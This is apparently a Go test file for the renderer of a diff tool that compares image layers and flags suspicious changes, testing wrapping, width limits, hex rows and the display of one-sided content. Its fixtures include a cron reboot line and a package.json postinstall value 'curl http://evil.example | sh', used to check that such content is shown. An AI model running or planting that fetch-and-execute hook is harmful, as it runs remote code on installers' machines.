package render

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"

	"github.com/stagescope/stagescope/diff"
)

// TestWrap: no row is wider than there is room for, and nothing is lost, in any script.
func TestWrap(t *testing.T) {
	for _, s := range []string{
		"", "short", "  - one two three four five six seven eight nine ten eleven twelve thirteen fourteen",
		"    " + strings.Repeat("日本語 テキスト ", 20), strings.Repeat("x", 300), "  " + strings.Repeat("宽", 150), "  a " + strings.Repeat("long/path/", 30) + " b",
		"\x1b[31m" + strings.Repeat("red words ", 30) + "\x1b[0m and more " + strings.Repeat("y", 200), "  double  spaces   stay  " + strings.Repeat("in  a  row  ", 20), strings.Repeat("e\u0301", 200),
	} {
		for _, width := range []int{40, 41, 79, 80, 200} {
			rows := wrap(s, width, 4)
			var got []string
			for i, r := range rows {
				if ansi.StringWidth(r) > width {
					t.Errorf("%d columns in %d: %q", ansi.StringWidth(r), width, r)
				}
				if in := len(s) - len(strings.TrimLeft(s, " ")); i > 0 && !strings.HasPrefix(r, strings.Repeat(" ", in+4)) {
					t.Errorf("row %d is not further in: %q", i, r)
				}
				got = append(got, strings.TrimSpace(r))
			}
			flat := func(s string) string { return strings.ReplaceAll(ansi.Strip(s), " ", "") }
			if flat(strings.Join(got, "")) != flat(s) {
				t.Errorf("%d columns: %q became %q", width, s, rows)
			}
		}
		if rows := wrap(s, 0, 4); len(rows) != 1 || rows[0] != s {
			t.Errorf("without a bound %q became %q", s, rows)
		}
	}
}

// TestTextWidth: on a terminal no line of the report's own is wider than it, its tables
// stay tables, and bytes have rows that fit; elsewhere nothing is cut.
func TestTextWidth(t *testing.T) {
	root := release()
	deep := root.Children[0]
	for i := range 4 {
		c := &diff.Node{Kind: diff.KindLayer, Name: fmt.Sprintf("inner 宽宽 %d", i), Status: diff.Differs}
		deep.Children = append(deep.Children, c)
		deep = c
	}
	a, b := strings.Repeat("A", 100), strings.Repeat("B", 100)
	deep.Children = []*diff.Node{{Kind: diff.KindBinary, Name: "usr/share/" + strings.Repeat("日本/", 40), Status: diff.Differs, Content: bytesOf{a, b}, RangesA: []diff.Range{{Off: 3, Len: 90}}, RangesB: []diff.Range{{Off: 3, Len: 90}},
		Note:    strings.Repeat("why it could not be read as what it is; ", 8),
		Reasons: []diff.Reason{{Field: "mtime", A: strings.Repeat("1", 150), B: "2", Cause: &diff.Cause{ID: "B1", Name: "modification time", Confidence: diff.Likely, Fix: strings.Repeat("do this and that ", 12)}}}}}
	root.Settle()
	for _, width := range []int{0, 60, 80, 200} {
		for _, color := range []bool{false, true} {
			var out bytes.Buffer
			if err := Text(&out, root, Options{A: strings.Repeat("registry.example/", 9), B: "b", Width: width, Color: color}); err != nil {
				t.Fatal(err)
			}
			wide := 0
			for l := range strings.SplitSeq(ansi.Strip(out.String()), "\n") {
				if n := ansi.StringWidth(l); width > 0 && n > width {
					t.Errorf("%d columns in %d: %q", n, width, l)
				} else if n > 200 {
					wide++
				}
			}
			if width == 0 && wide == 0 {
				t.Error("a line was cut where there is no terminal")
			}
			if flat := ansi.Strip(out.String()); width == 80 && !strings.Contains(flat, "\n  B1           1  modification time (likely); fix: do this and that do this and\n                  that do this and ") {
				t.Errorf("the causes are no table:\n%s", flat)
			}
			row := "-00000000  41 41 41 41 41 41 41 41  41 41 41 41 41 41 41 41  AAAAAAAAAAAAAAAA\n"
			if width == 60 || width == 80 {
				row = "-00000008  41 41 41 41 41 41 41 41  AAAAAAAA\n"
			}
			if !strings.Contains(ansi.Strip(out.String()), row) {
				t.Errorf("%d columns: without %q:\n%s", width, row, out.String())
			}
		}
	}
}

// TestRootsOwn: what the outermost pair says itself is in the tree, also where other
// things lie in it.
func TestRootsOwn(t *testing.T) {
	root := program("tool", 4)
	root.Reasons = []diff.Reason{{Field: "entry point", A: "0x10", B: "0x20"}}
	root.Suspect(diff.Suspicion{Kind: diff.SuspectStart, What: "it starts at another place"})
	root.Settle()
	for ext, write := range writers {
		var b bytes.Buffer
		if err := write(&b, root, Options{}); err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(b.String(), "it starts at another place"); n < 2 || !strings.Contains(b.String(), "entry point") {
			t.Errorf("%s: %d times:\n%s", ext, n, b.String()[:min(b.Len(), 2000)])
		}
	}
}

// TestSuspiciousAlone: what is suspicious and on one side only is shown, but for bytes
// that are no text: those are counted, with the flag that shows them.
func TestSuspiciousAlone(t *testing.T) {
	file := func(name, content string) *diff.Node {
		n := &diff.Node{Kind: diff.KindEntry, Name: name, Status: diff.OnlyB, B: side(name, int64(len(content))), Residue: diff.ResidueKnown, Content: onlyB{content}}
		n.Suspect(diff.Suspicion{Kind: diff.SuspectStart, What: "cron runs what it says; it is only in B"})
		return n
	}
	root := &diff.Node{Kind: diff.KindLayer, Name: "layer", Status: diff.Differs, Children: []*diff.Node{file("cron.d/up", "* * * * * root reboot\n"), file("cron.d/bin", "\x00\x01\xff"), {Kind: diff.KindEntry, Name: "doc", Status: diff.OnlyB, Residue: diff.ResidueKnown, Content: onlyB{"a manual\n"}}}}
	root.Settle()
	for ext, write := range writers {
		if ext == "html" {
			continue // it shows all
		}
		var b bytes.Buffer
		if err := write(&b, root, Options{}); err != nil {
			t.Fatal(err)
		}
		if out := b.String(); !strings.Contains(out, "+* * * * * root reboot") || !strings.Contains(out, "3 bytes that are no text (--full shows them)") || strings.Contains(out, "a manual") {
			t.Errorf("%s:\n%s", ext, out)
		}
	}
}

// TestValueAlone: a value that only one side has is shown: its name says nothing of it.
func TestValueAlone(t *testing.T) {
	root := &diff.Node{Kind: "json", Name: "package.json", Status: diff.Differs, Children: []*diff.Node{
		{Kind: diff.KindValue, Name: "/scripts/postinstall", Status: diff.OnlyB, B: side("x", 30), Residue: diff.ResidueKnown, Content: onlyB{`"curl http://evil.example | sh"`}}}}
	root.Settle()
	for ext, write := range writers {
		var b bytes.Buffer
		if err := write(&b, root, Options{}); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), "curl http://evil.example | sh") {
			t.Errorf("%s does not show it:\n%s", ext, b.String()[:min(b.Len(), 2000)])
		}
	}
}
